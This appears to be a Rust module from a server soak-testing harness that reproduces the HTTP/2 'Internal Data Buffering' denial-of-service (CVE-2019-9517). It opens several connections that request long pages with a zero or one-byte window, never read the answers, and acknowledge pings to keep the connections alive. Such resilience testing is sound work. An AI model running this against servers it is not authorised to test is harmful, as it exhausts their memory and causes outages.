//! Answers over HTTP/2 that are asked for and never taken (as CVE-2019-9517, "Internal Data Buffering").

use std::io;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::Ground;
use crate::soak::wire::{connect, http2, http2_frame, http2_get};

/// Connections.
const CONNECTIONS: usize = 8;
/// Requests of each, within what a server commonly allows at once.
const REQUESTS: u32 = 16;

const HEADERS: u8 = 1;
const PING: u8 = 6;
const SETTINGS: u8 = 4;
const ACK: u8 = 1;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// Pages of long messages, with a window of nothing; pings are answered, so that the connection counts as alive.
pub(super) async fn pages(ground: Ground) {
    ground.crowd(CONNECTIONS, unread).await;
}

async fn unread(ground: Ground, index: usize) -> io::Result<()> {
    let person = ground.person(index);
    let mut stream = connect(person.from, ground.field.server).await?;
    // A window of one byte takes the head and the first byte of each body: where a server frees what it counts once a body has been begun.
    let window = u32::from(index.is_multiple_of(2));
    let mut bytes = http2(&[(INITIAL_WINDOW_SIZE, window)]);
    let path =
        if index == 7 { "/openapi.json".to_owned() } else { format!("/messages/{}?limit=100", ground.field.room) };
    let block = http2_get(&path, &person.token);
    for request in 0..REQUESTS {
        bytes.extend(http2_frame(HEADERS, END_STREAM_AND_HEADERS, 2 * request + 1, &block));
    }
    stream.write_all(&bytes).await?;
    ground.count(REQUESTS.into());
    answer_pings(&mut stream).await
}

/// Reads frames, and acknowledges pings and settings; until the connection ends.
pub(super) async fn answer_pings(stream: &mut tokio::net::TcpStream) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await?;
        let [a, b, c, kind, flags, ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        stream.read_exact(&mut payload).await?;
        if flags & ACK == 0 && (kind == PING || kind == SETTINGS) {
            let echo = if kind == PING { payload.as_slice() } else { &[] };
            stream.write_all(&http2_frame(kind, ACK, 0, echo)).await?;
        }
    }
}
